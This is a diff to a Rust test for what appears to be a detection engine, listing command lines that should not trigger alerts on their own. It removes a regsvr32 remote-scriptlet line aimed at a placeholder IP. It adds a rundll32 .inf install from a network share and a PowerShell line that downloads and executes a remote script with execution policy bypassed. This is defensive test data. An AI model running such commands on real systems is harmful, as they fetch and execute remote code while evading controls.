@@ -21,8 +21,13 @@ fn every_weak_stage_alone_is_silent() {
         (POWERSHELL, "powershell -ep bypass -NoExit"),
         (CMD, r"cmd /c C:\Users\ann\AppData\Local\Temp\a.bat"),
         (
-            r"C:\Windows\System32\regsvr32.exe",
-            "regsvr32 /s /i:http://203.0.113.5/a.sct scrobj.dll",
+            r"C:\Windows\System32\rundll32.exe",
+            r"rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 \\files\drv\a.inf",
+        ),
+        (
+            POWERSHELL,
+            "powershell -ep bypass -c \"iex ((New-Object Net.WebClient).DownloadString(\
+             'https://community.chocolatey.org/install.ps1'))\"",
         ),
         (
             r"C:\Windows\System32\mshta.exe",
